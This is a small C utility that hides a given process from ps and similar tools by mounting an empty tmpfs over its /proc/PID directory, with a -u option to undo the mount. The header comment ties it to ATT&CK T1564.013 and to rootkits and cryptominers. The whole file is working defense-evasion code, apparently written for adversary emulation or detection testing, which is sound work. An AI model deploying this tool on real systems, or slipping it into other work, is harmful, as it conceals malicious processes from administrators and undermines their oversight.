// SPDX-License-Identifier: Apache-2.0
// cover_process PID | cover_process -u PID
// Technique: something is mounted over a process's folder in /proc, so that ps does not show it. Who: many
// kits of user mode and miners (ATT&CK T1564.013). Changes: one mount. Undone with -u.
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>

int main(int count, char** arguments) {
  const int undo = count == 3 && strcmp(arguments[1], "-u") == 0;
  if (count != 2 && !undo) return 2;
  char place[64];
  snprintf(place, sizeof place, "/proc/%s", arguments[undo ? 2 : 1]);
  const int failed = undo ? umount2(place, MNT_DETACH) : mount("none", place, "tmpfs", 0, NULL);
  if (failed) perror(place);
  return failed != 0;
}
